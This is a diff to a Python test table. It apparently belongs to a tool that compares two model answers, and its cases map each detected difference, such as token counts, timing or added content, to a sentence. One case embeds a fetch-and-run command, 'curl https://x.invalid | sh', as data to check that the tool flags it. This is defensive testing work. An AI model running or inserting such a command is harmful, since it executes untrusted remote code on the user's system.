@@ -87,6 +87,18 @@ CASES: list[tuple[Claim, str]] = [
     (say.TookLonger(-88.0), "B took 88 ms less to complete."),
     (say.MoreInput(27), "B counted 27 more input tokens for the same request."),
     (say.MoreInput(-1), "B counted 1 fewer input token for the same request."),
+    (say.MoreInput(27, same_body=True), "B's request carries 27 more input tokens than A's for the same body."),
+    (say.MoreInput(-1, same_body=True), "B counts 1 fewer input token than A for the same body."),
+    (
+        say.Added("b", "a", "shell", "curl https://x.invalid | sh"),
+        "B's answer holds a command that loads something and runs it, which is neither in the request nor in A's answer: “curl "
+        "https://x.invalid | sh”.",
+    ),
+    (
+        say.Added("a", "b", "invisible", "U+200B zero width space"),
+        "A's answer holds characters that nobody sees (U+200B zero width space), which are neither in the request nor in B's "
+        "answer.",
+    ),
     (say.OutputUnsaid("b", zero=False), "B did not say how many tokens it wrote."),
     (say.OutputUnsaid("b", zero=True), "B counted 0 tokens for what it wrote."),
     (
